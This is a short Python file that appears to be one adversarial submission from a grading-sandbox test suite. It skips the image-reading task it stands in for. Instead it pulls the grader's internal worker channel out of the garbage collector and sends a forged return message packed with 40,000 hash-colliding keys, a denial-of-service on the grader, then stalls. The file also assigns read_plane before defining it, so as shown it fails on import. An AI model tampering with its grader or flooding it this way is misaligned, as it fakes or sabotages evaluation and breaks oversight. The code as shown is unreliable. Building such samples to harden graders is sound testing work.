"""Sends a dict of keys that all have the same hash.

attacks: reads_one_page
keeps: knows_its_shape
status: crashed
says: keys that collide
"""

import gc
import struct
import time
from grader.sandbox.channel import _HEADER, Op, WorkerChannel, pack_get, pack_get_all
from grader.sandbox.codec import encode

_right = read_plane

def _channel():
    return next(thing for thing in gc.get_objects() if isinstance(thing, WorkerChannel))

def _send(op, payload):
    _channel().send(op, payload)
    time.sleep(100)

def read_plane(tif, z):
    keys = b"".join(bytes(encode(i * (2**61 - 1))) + b"N" for i in range(40_000))
    _send(Op.RETURN, struct.pack("<cIcIcI", b"t", 2, b"l", 0, b"d", 40_000) + keys)
